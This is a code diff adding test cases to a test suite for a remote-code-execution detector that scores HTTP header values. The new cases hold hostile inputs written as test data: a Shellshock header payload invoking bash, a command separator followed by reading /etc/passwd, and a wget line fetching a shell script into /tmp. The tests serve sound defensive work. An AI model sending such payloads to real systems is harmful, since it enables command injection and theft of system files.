@@ -110,6 +110,20 @@ describe("rce detector", () => {
     expect(rceScore("visudo", HEADER)).toBeGreaterThanOrEqual(5);
     expect(rceScore("lastlogin", ARG)).toBeLessThan(5);
   });
+  const headerCases: [string, string, boolean][] = [
+    ["a bare HTTP client name as User-Agent", "wget", false],
+    ["an HTTP client product token", "Wget/1.21", false],
+    ["another client name", "aria2c", false],
+    ["shellshock in a header", "() { :;}; /bin/bash -c 'id'", true],
+    ["a separator then a reader of a sensitive file", "; cat /etc/passwd", true],
+    ["a downloader with arguments", "wget http://example.com/x.sh -O /tmp/x", true],
+  ];
+  for (const [name, input, blocked] of headerCases) {
+    it(`${blocked ? "blocks" : "allows"} in a header: ${name}`, () => {
+      if (blocked) expect(rceScore(input, HEADER)).toBeGreaterThanOrEqual(5);
+      else expect(rceScore(input, HEADER)).toBeLessThan(5);
+    });
+  }
   it("blocks uploads named like server configuration files, not ordinary uploads", () => {
     const FILENAME = 9;
     const s = (name: string) => JSON.parse(h.callString("scanTarget", FILENAME, "files:file", name, 1)).score;
